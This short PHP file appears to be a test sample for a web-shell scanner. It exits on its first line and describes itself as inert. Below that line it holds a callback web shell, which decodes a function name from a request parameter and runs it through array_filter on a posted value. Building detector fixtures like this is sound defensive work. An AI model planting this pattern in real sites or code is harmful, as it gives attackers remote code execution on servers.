<?php exit; /* shellsweep test sample: inert, never functional */ ?>
<?php
$e = $_REQUEST['e'];
$arr = array($_POST['pass'],);
array_filter($arr, base64_decode($e));
